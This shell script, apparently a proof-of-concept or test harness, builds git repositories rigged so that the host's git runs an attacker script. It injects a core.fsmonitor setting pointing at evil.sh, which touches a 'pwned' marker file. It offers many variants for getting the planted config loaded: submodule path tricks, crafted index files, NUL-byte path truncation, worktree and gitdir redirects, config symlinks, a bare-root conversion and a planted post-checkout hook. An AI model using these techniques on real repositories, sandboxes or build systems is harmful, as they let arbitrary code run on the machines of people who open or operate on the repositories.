# Plants a repository with settings of ours where git on the host comes to it on a detour. $1 says how.
evil=$PWD/evil.sh
printf '#!/bin/sh\ntouch "$HOME/pwned"\n' >evil.sh && chmod 755 evil.sh
monitor() { printf '[core]\n\tfsmonitor = %s\n' "$evil"; }
# A repository in the folder $1, with one commit.
made() { git init -q "$1" && git -C "$1" commit -q --allow-empty -m one; }
evil() { made "$1" && monitor >>"$1/.git/config"; }
# Names the folder $1 in the index as a submodule.
named() { git update-index --add --cacheinfo "160000,$(git -C "$1" rev-parse HEAD),$1"; }
# Makes the index $1 one of version 2 or 3 with these entries alone: octal mode, id, name.
index() {
    python3 - "$@" <<'END'
import hashlib, struct, sys
path, words = sys.argv[1], sys.argv[2:]
entries = sorted(zip(words[2::3], words[0::3], words[1::3]))
text = b'DIRC' + struct.pack('>II', 3, len(entries))
for name, mode, id in entries:
    name, mode = name.encode(), int(mode, 8)
    flags = struct.pack('>H', len(name))
    if mode == 0o40000:
        flags = struct.pack('>HH', 0x4000 | len(name), 0x4000)
    entry = bytes(24) + struct.pack('>I', mode) + bytes(12) + bytes.fromhex(id) + flags + name
    text += entry + bytes(8 - len(entry) % 8)
if any(mode == '40000' for _, mode, _ in entries):
    text += b'sdir' + bytes(4)
open(path, 'wb').write(text + hashlib.sha1(text).digest())
END
}
case $1 in
dot) evil new && index .git/index 160000 "$(git -C new rev-parse HEAD)" ./new ;;
climbs) evil new && index .git/index 160000 "$(git -C new rev-parse HEAD)" "../$(basename "$PWD")/new" ;;
absolute) evil new && index .git/index 160000 "$(git -C new rev-parse HEAD)" "$PWD/new" ;;
worktree) evil new && index .git/worktrees/elsewhere/index 160000 "$(git -C new rev-parse HEAD)" "$PWD/new" ;;
work-tree)
    mkdir other && evil other/deeper && made new
    index new/.git/index 160000 "$(git -C other/deeper rev-parse HEAD)" deeper
    git -C new config core.worktree ../../other
    git update-index --add --cacheinfo "160000,$(git -C new rev-parse HEAD),new"
    ;;
work-tree-nul)
    # Of a path, git reads what comes before the NUL.
    mkdir other && evil other/deeper && made new && named new
    index new/.git/index 160000 "$(git -C other/deeper rev-parse HEAD)" deeper
    printf '[core]\n\tworktree = ../../other\0/../new\n' >>new/.git/config
    ;;
pointer-nul) evil new && named new && mv new/.git hidden && printf 'gitdir: ../hidden\0/x' >new/.git ;;
sparse)
    made new && mkdir new/a && evil new/a/deeper
    (cd new && named a/deeper && git commit -qm two && git config core.sparseCheckout true)
    index new/.git/index 40000 "$(git -C new rev-parse HEAD:a)" a/
    named new
    ;;
foreseen) evil new && named new && mkdir other && echo 'gitdir: ../new/.git.held' >other/.git &&
    git update-index --add --cacheinfo "160000,$(git -C new rev-parse HEAD),other" ;;
foreseen-link) evil new && named new && mkdir other && ln -s ../new/.git.held other/.git &&
    git update-index --add --cacheinfo "160000,$(git -C new rev-parse HEAD),other" ;;
no-settings) made new && named new && mv new/.git/config harmless ;;
linked-settings) made new && named new && mv new/.git/config harmless && ln -s ../../harmless new/.git/config ;;
settings) rm -f new/.git/config; cat harmless >new/.git/config; monitor >>new/.git/config ;;
root) evil . ;;
bare-root)
    git init -q --bare /tmp/bare && cp -r /tmp/bare/* .
    git config -f config core.bare false && git config -f config core.worktree "$PWD" && monitor >>config
    ;;
module)
    git clone -q --bare "$(git config -f .gitmodules submodule.sub.url)" .git/modules/sub
    git -C .git/modules/sub config core.bare false
    git -C .git/modules/sub config core.worktree ../../../sub
    mkdir -p .git/modules/sub/hooks && cp evil.sh .git/modules/sub/hooks/post-checkout
    ;;
*) exit 1 ;;
esac
echo done
